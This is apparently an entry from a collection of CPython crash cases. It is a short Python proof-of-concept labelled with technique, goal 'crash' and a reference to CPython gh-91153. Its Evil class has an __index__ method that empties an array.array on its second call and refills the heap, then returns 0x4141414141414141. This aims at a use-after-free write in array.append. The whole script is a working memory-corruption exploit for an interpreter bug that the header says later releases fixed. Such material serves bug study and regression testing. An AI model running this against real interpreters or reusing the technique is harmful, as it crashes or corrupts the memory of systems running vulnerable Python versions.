# technique: the same for append and insert, which convert twice
# goal: crash
# source: own analysis of arraymodule.c, after CPython gh-91153
# mended: later releases
import array


class Evil:
    calls = 0

    def __index__(self):
        Evil.calls += 1
        if Evil.calls == 2:
            del target[:]
            others.append([None] * 1000)
        return 0x4141414141414141


others = []
for size in 100000, 200000, 300000:
    Evil.calls = 0
    target = array.array('q', [0] * size)
    target.append(Evil())
